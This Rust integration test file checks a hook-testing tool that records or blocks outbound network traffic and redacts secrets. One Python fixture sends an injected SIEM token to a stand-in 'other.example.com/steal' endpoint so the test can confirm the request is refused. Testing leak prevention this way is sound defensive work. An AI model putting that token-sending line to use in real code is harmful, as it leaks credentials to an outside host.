//! `hookbox init` and `hookbox test` through the binary: the scaffold passes,
//! failures are reported and exit 1, and under test nothing leaves the
//! machine unless `--live` says so.

use std::io::{BufRead, BufReader};
use std::path::Path;
use std::process::{Command, Output, Stdio};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::{Duration, Instant};

use crate::receiver::{Receiver, Reply};
use crate::support::hookbox;

fn test_command(dir: &Path) -> Command {
    let mut command = hookbox();
    command.arg("test").arg(dir);
    command
}

fn text(output: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    )
}

fn json(output: &Output) -> serde_json::Value {
    serde_json::from_slice(&output.stdout).unwrap_or_else(|e| panic!("{e}: {}", text(output)))
}

/// A runbooks repository with one session-open hook, its settings and
/// fixtures.
fn repository(hook: &str, settings: &str, fixtures: &[(&str, &str)]) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    let hooks = dir.path().join("hoop-hooks");
    std::fs::create_dir_all(hooks.join("tests")).unwrap();
    std::fs::write(hooks.join("session-open.runbook.py"), hook).unwrap();
    std::fs::write(dir.path().join("hookbox.toml"), settings).unwrap();
    for (name, contents) in fixtures {
        std::fs::write(hooks.join("tests").join(name), contents).unwrap();
    }
    dir
}

async fn run(command: Command) -> Output {
    let mut command = command;
    tokio::task::spawn_blocking(move || command.output().unwrap())
        .await
        .unwrap()
}

#[test]
fn a_new_repository_passes_its_own_tests() {
    let dir = tempfile::tempdir().unwrap();
    let target = dir.path().join("runbooks");
    let init = hookbox().arg("init").arg(&target).output().unwrap();
    assert!(init.status.success(), "{}", text(&init));
    let output = test_command(&target).output().unwrap();
    assert_eq!(output.status.code(), Some(0), "{}", text(&output));
    assert!(
        text(&output).contains("4 passed, 0 failed"),
        "{}",
        text(&output)
    );
    assert!(
        text(&output).contains("> POST https://siem.example.com/events  503"),
        "the canned answer is shown: {}",
        text(&output)
    );
}

#[test]
fn init_never_overwrites_a_file() {
    let dir = tempfile::tempdir().unwrap();
    let hooks = dir.path().join("hoop-hooks");
    std::fs::create_dir_all(&hooks).unwrap();
    std::fs::write(hooks.join("session-open.runbook.py"), "print('mine')\n").unwrap();
    let output = hookbox().arg("init").arg(dir.path()).output().unwrap();
    assert_eq!(output.status.code(), Some(2), "{}", text(&output));
    assert!(text(&output).contains("already exist"), "{}", text(&output));
    assert_eq!(
        std::fs::read_to_string(hooks.join("session-open.runbook.py")).unwrap(),
        "print('mine')\n"
    );
    assert!(
        !dir.path().join("hookbox.toml").exists(),
        "nothing is written when anything would be overwritten"
    );
}

const FORWARD: &str = r#"
import json, os, sys, urllib.request
event = json.loads(os.environ["HOOP_RUNBOOK_HOOK_PAYLOAD"])
body = json.dumps({"sid": event["sid"], "user": event["event_session_open"]["user_email"]}).encode()
request = urllib.request.Request(os.environ["TARGET"] + "/ingest?source=hoop", data=body, method="POST",
                                 headers={"Content-Type": "application/json", "X-Token": os.environ.get("TOKEN", "")})
with urllib.request.urlopen(request, timeout=5) as response:
    print("status", response.status, response.read().decode())
"#;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn recorded_requests_never_reach_the_network_and_live_ones_do() {
    let receiver = Receiver::http(Reply::Status(200, "from the receiver")).await;
    let target = format!("http://127.0.0.1:{}", receiver.port());
    let settings =
        format!("[egress]\nallow = [\"{target}\"]\n[env]\npass = [\"TARGET={target}\"]\n");
    let fixture = format!(
        r#"hook = "session-open"
[set]
"event_session_open.user_email" = "eve@example.com"
[env]
TOKEN = "t0ken"
[[respond]]
url = "{target}/ingest"
status = 201
body = "canned"
[expect]
stdout_contains = ["status 201 canned"]
egress_count = 1
[[expect.egress]]
method = "POST"
url = "{target}/ingest?source=hoop"
headers = {{ x-token = "t0ken", content-type = "application/json" }}
json = {{ user = "eve@example.com" }}
"#
    );
    let repo = repository(FORWARD, &settings, &[("eve.toml", &fixture)]);

    let recorded = run(test_command(repo.path())).await;
    assert_eq!(recorded.status.code(), Some(0), "{}", text(&recorded));
    assert_eq!(
        receiver.connections(),
        0,
        "a recorded request must not connect"
    );
    // The expectation saw the real header; the report shows only its length.
    let mut as_json = test_command(repo.path());
    as_json.arg("--json");
    let report = run(as_json).await;
    assert_eq!(report.status.code(), Some(0), "{}", text(&report));
    let shown = String::from_utf8_lossy(&report.stdout);
    assert!(!shown.contains("t0ken"), "{shown}");
    assert!(shown.contains("[redacted: 5 bytes]"), "{shown}");

    // Live, traffic goes only where the command line allows: a repository's
    // own rules never open the network of the machine that tests it.
    let mut live = test_command(repo.path());
    live.arg("--live").arg("--json").args(["--allow", &target]);
    let live = run(live).await;
    // The sample case passes; the fixture expects the canned 201 and gets the
    // receiver's real 200.
    assert_eq!(live.status.code(), Some(1), "{}", text(&live));
    assert_eq!(receiver.requests().len(), 2, "both cases sent for real");
    let report = json(&live);
    let mismatches = &report["cases"][1]["mismatches"];
    assert_eq!(mismatches[0]["subject"], "stdout contains", "{report:#}");
}

#[test]
fn a_failed_expectation_is_explained_and_exits_1() {
    let settings = "[egress]\nallow = [\"https://siem.example.com\"]\n[env]\npass = [\"TARGET=https://siem.example.com\"]\n";
    let fixture = r#"hook = "session-open"
[expect]
[[expect.egress]]
url = "https://siem.example.com/ingest?source=hoop"
headers = { x-token = "expected-token" }
json = { user = "bob@example.com" }
"#;
    let repo = repository(FORWARD, settings, &[("bob.toml", fixture)]);
    let mut command = test_command(repo.path());
    command.arg("--json");
    let output = command.output().unwrap();
    assert_eq!(output.status.code(), Some(1), "{}", text(&output));
    let report = json(&output);
    assert_eq!(report["passed"], 1);
    assert_eq!(report["failed"], 1);
    let subjects: Vec<&str> = report["cases"][1]["mismatches"]
        .as_array()
        .unwrap()
        .iter()
        .map(|m| m["subject"].as_str().unwrap())
        .collect();
    assert_eq!(
        subjects,
        ["egress #1 header x-token", "egress #1 json.user"]
    );
    let plain = test_command(repo.path()).output().unwrap();
    assert!(
        // A credential header's value is never shown, only its length.
        text(&plain).contains(
            r#"egress #1 header x-token: expected "expected-token", got "[redacted: 0 bytes]""#
        ),
        "{}",
        text(&plain)
    );
}

#[test]
fn a_missing_rule_fails_the_case_as_production_would() {
    let repo = repository(
        FORWARD,
        "[env]\npass = [\"TARGET=https://siem.example.com\"]\n",
        &[],
    );
    let output = test_command(repo.path()).output().unwrap();
    assert_eq!(output.status.code(), Some(1), "{}", text(&output));
    assert!(
        text(&output).contains(
            "x POST https://siem.example.com:443/ingest  refused: no egress rule allows https://siem.example.com:443"
        ),
        "{}",
        text(&output)
    );
}

#[test]
fn a_bad_fixture_fails_alone_and_names_the_file() {
    let repo = repository(
        "print('ok')\n",
        "",
        &[
            ("typo.toml", "hook = \"session-open\"\n[expect]\nexit = 0\n"),
            ("close.toml", "hook = \"session-close\"\n"),
            (
                "good.toml",
                "hook = \"session-open\"\n[expect]\nstdout_contains = [\"ok\"]\n",
            ),
        ],
    );
    let mut command = test_command(repo.path());
    command.arg("--json");
    let output = command.output().unwrap();
    assert_eq!(output.status.code(), Some(1), "{}", text(&output));
    let report = json(&output);
    let cases = report["cases"].as_array().unwrap();
    let by_name = |name: &str| {
        cases
            .iter()
            .find(|c| c["case"].as_str().unwrap().ends_with(name))
            .unwrap_or_else(|| panic!("no case {name}: {report:#}"))
    };
    let typo = by_name("typo.toml")["error"].as_str().unwrap();
    assert!(
        typo.contains("typo.toml") && typo.contains("exit"),
        "{typo}"
    );
    let close = by_name("close.toml")["error"].as_str().unwrap();
    assert!(close.contains("no session-close.runbook.py"), "{close}");
    assert_eq!(by_name("good.toml")["passed"], true);
}

#[test]
fn a_fixture_syntax_error_points_at_its_line_with_a_caret() {
    let repo = repository(
        "print('ok')\n",
        "",
        &[(
            "broken.toml",
            "hook = \"session-open\"\n[expect]\nexit_code = \"zero\"\n",
        )],
    );
    let output = test_command(repo.path()).output().unwrap();
    assert_eq!(output.status.code(), Some(1), "{}", text(&output));
    let report = String::from_utf8_lossy(&output.stdout);
    let lines: Vec<&str> = report.lines().collect();
    let quoted = lines
        .iter()
        .position(|line| line.contains("3 | exit_code = \"zero\""))
        .unwrap_or_else(|| panic!("the line is quoted on a line of its own: {report}"));
    assert!(
        lines[quoted + 1].trim_end().ends_with('^'),
        "a caret line follows: {report}"
    );
}

#[test]
fn a_folder_without_hooks_is_a_usage_error() {
    let dir = tempfile::tempdir().unwrap();
    let output = test_command(dir.path()).output().unwrap();
    assert_eq!(output.status.code(), Some(2), "{}", text(&output));
    assert!(text(&output).contains("hookbox init"), "{}", text(&output));
}

const SYSLOG: &str = r#"
import json, os, socket
event = json.loads(os.environ["HOOP_RUNBOOK_HOOK_PAYLOAD"])
message = ("<134>1 - hoop hookbox - session-open - opened " + event["sid"]).encode()
with socket.create_connection((os.environ["COLLECTOR"], int(os.environ["PORT"])), timeout=5) as s:
    s.sendall(str(len(message)).encode() + b" " + message)
print("sent")
"#;

/// A TCP listener that counts the connections it accepts.
async fn tcp_listener() -> (u16, Arc<AtomicUsize>) {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let accepted = Arc::new(AtomicUsize::new(0));
    let counter = accepted.clone();
    tokio::spawn(async move {
        while let Ok((_stream, _)) = listener.accept().await {
            counter.fetch_add(1, Ordering::SeqCst);
        }
    });
    (port, accepted)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn tcp_is_recorded_by_name_and_by_address_without_connecting() {
    let (port, accepted) = tcp_listener().await;
    let by_name = repository(
        SYSLOG,
        "[egress]\nallow = [\"tcp://syslog.example.com:6514\"]\n[env]\npass = [\"COLLECTOR=syslog.example.com\", \"PORT=6514\"]\n",
        &[(
            "syslog.toml",
            "hook = \"session-open\"\n[set]\nsid = \"s-1\"\n[[expect.egress]]\nurl = \"tcp://syslog.example.com:6514\"\nbody_contains = \"<134>1 - hoop hookbox - session-open - opened s-1\"\n",
        )],
    );
    let output = run(test_command(by_name.path())).await;
    assert_eq!(output.status.code(), Some(0), "{}", text(&output));

    let by_address = repository(
        SYSLOG,
        &format!(
            "[egress]\nallow = [\"tcp://127.0.0.1:{port}\"]\n[env]\npass = [\"COLLECTOR=127.0.0.1\", \"PORT={port}\"]\n"
        ),
        &[(
            "syslog.toml",
            &format!(
                "hook = \"session-open\"\n[[expect.egress]]\nurl = \"tcp://127.0.0.1:{port}\"\nbody_contains = \"session-open\"\n"
            ),
        )],
    );
    let output = run(test_command(by_address.path())).await;
    assert_eq!(output.status.code(), Some(0), "{}", text(&output));
    assert_eq!(
        accepted.load(Ordering::SeqCst),
        0,
        "a recorded connection must not connect"
    );

    let mut live = test_command(by_address.path());
    live.arg("--live")
        .args(["--allow", &format!("tcp://127.0.0.1:{port}")]);
    let output = run(live).await;
    // Live, the listener gets the connections but records nothing, so the
    // body expectation fails.
    assert_eq!(output.status.code(), Some(1), "{}", text(&output));
    assert_eq!(accepted.load(Ordering::SeqCst), 2);
}

#[test]
fn tcp_without_a_rule_and_udp_are_refused_under_test() {
    let hook = r#"
import socket, sys
try:
    socket.create_connection(("syslog.example.com", 6514), timeout=5)
    print("tcp connected")
except OSError as error:
    print("tcp refused:", error)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    s.sendto(b"x", ("10.9.8.7", 514))
    print("udp sent")
except OSError as error:
    print("udp refused:", error)
"#;
    let repo = repository(
        hook,
        "[egress]\nallow = [\"tcp://other.example.com:6514\", \"udp://10.9.8.7:514\"]\n",
        &[],
    );
    let mut command = test_command(repo.path());
    command.arg("--json");
    let report = json(&command.output().unwrap());
    let outcome = &report["cases"][0]["outcome"];
    let stdout = outcome["stdout"].as_str().unwrap();
    assert!(stdout.contains("tcp refused"), "{stdout}");
    assert!(stdout.contains("udp refused"), "{stdout}");
    let reasons: Vec<&str> = outcome["egress"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["reason"].as_str().unwrap_or(""))
        .collect();
    assert!(
        reasons
            .iter()
            .any(|r| r.contains("no rule names syslog.example.com")),
        "{reasons:?}"
    );
    assert!(
        reasons.iter().any(|r| r.contains("UDP is not recorded")),
        "{reasons:?}"
    );
}

#[test]
fn watch_runs_again_when_a_hook_changes() {
    let repo = repository("print('first version')\n", "", &[]);
    let mut child = test_command(repo.path())
        .arg("--watch")
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    // Lines arrive through a channel, so a watcher that goes quiet fails the
    // test at the deadline instead of hanging it.
    let (sender, lines) = std::sync::mpsc::channel();
    let stdout = BufReader::new(child.stdout.take().unwrap());
    std::thread::spawn(move || {
        for line in stdout.lines().map_while(Result::ok) {
            if sender.send(line).is_err() {
                break;
            }
        }
    });
    let deadline = Instant::now() + Duration::from_secs(60);
    let wait_for = |needle: &str| -> Result<Vec<String>, String> {
        let mut seen = Vec::new();
        loop {
            let left = deadline.saturating_duration_since(Instant::now());
            match lines.recv_timeout(left) {
                Ok(line) => {
                    let found = line.contains(needle);
                    seen.push(line);
                    if found {
                        return Ok(seen);
                    }
                }
                Err(error) => return Err(format!("no {needle:?} ({error}); saw {seen:?}")),
            }
        }
    };
    let first = wait_for("watching");
    let second = first.clone().and_then(|_| {
        std::fs::write(
            repo.path().join("hoop-hooks/session-open.runbook.py"),
            "import sys\nsys.exit(3)\n",
        )
        .unwrap();
        wait_for("watching")
    });
    let _ = child.kill();
    let _ = child.wait();
    let (first, second) = (first.unwrap(), second.unwrap());
    assert!(first.iter().any(|l| l.contains("1 passed")), "{first:?}");
    assert!(
        second
            .iter()
            .any(|l| l.contains("exit code: expected 0, got 3")),
        "{second:?}"
    );
}

const INJECTING_HOOK: &str = r#"
import os, urllib.request
token = os.environ["SIEM_TOKEN"]
def post(url, headers):
    try:
        urllib.request.urlopen(urllib.request.Request(url, data=b"{}", headers=headers), timeout=5)
        print("sent", url)
    except OSError as error:
        print("not sent", url, type(error).__name__)
post("https://siem.example.com/services/collector", {"Authorization": f"Splunk {token}"})
post("https://other.example.com/steal", {"X-Token": token})
"#;

const INJECTING_SETTINGS: &str = r#"
[egress]
allow = ["https://siem.example.com", "https://other.example.com"]

[[secrets.inject]]
name = "SIEM_TOKEN"
from_env = "HOOKBOX_SIEM_TOKEN"
destinations = ["https://siem.example.com"]
"#;

#[test]
fn fixtures_give_injected_secrets_test_values_and_assert_where_they_went() {
    let given = r#"
hook = "session-open"
[secrets]
SIEM_TOKEN = "fixture-token-123"
[[expect.egress]]
url = "https://siem.example.com/services/collector"
headers = { authorization = "Splunk fixture-token-123" }
[[expect.egress]]
url = "https://other.example.com/steal"
allowed = false
"#;
    let defaulted = r#"
hook = "session-open"
[[expect.egress]]
url = "https://siem.example.com/services/collector"
headers = { authorization = "Splunk test-value-of-SIEM_TOKEN" }
"#;
    let unknown = r#"
hook = "session-open"
[secrets]
NOT_INJECTED = "value-12345"
"#;
    let dir = repository(
        INJECTING_HOOK,
        INJECTING_SETTINGS,
        &[
            ("given.toml", given),
            ("defaulted.toml", defaulted),
            ("unknown.toml", unknown),
        ],
    );
    let output = test_command(dir.path())
        .arg("--json")
        .env("HOOKBOX_SIEM_TOKEN", "the-hosts-real-token-value")
        .output()
        .unwrap();
    let all = text(&output);
    assert!(!all.contains("the-hosts-real-token-value"), "{all}");
    let report = json(&output);
    let cases = report["cases"]
        .as_array()
        .unwrap_or_else(|| panic!("{report}"));
    let case = |name: &str| {
        cases
            .iter()
            .find(|c| c["case"].as_str().is_some_and(|n| n.ends_with(name)))
            .unwrap_or_else(|| panic!("no case {name}: {report}"))
    };
    assert_eq!(case("given.toml")["passed"], true, "{report}");
    assert_eq!(case("defaulted.toml")["passed"], true, "{report}");
    let unknown = case("unknown.toml");
    assert_eq!(unknown["passed"], false);
    assert!(
        unknown["error"]
            .as_str()
            .unwrap()
            .contains("no [[secrets.inject]] entry is named NOT_INJECTED"),
        "{unknown}"
    );
    assert_eq!(output.status.code(), Some(1), "{all}");
}
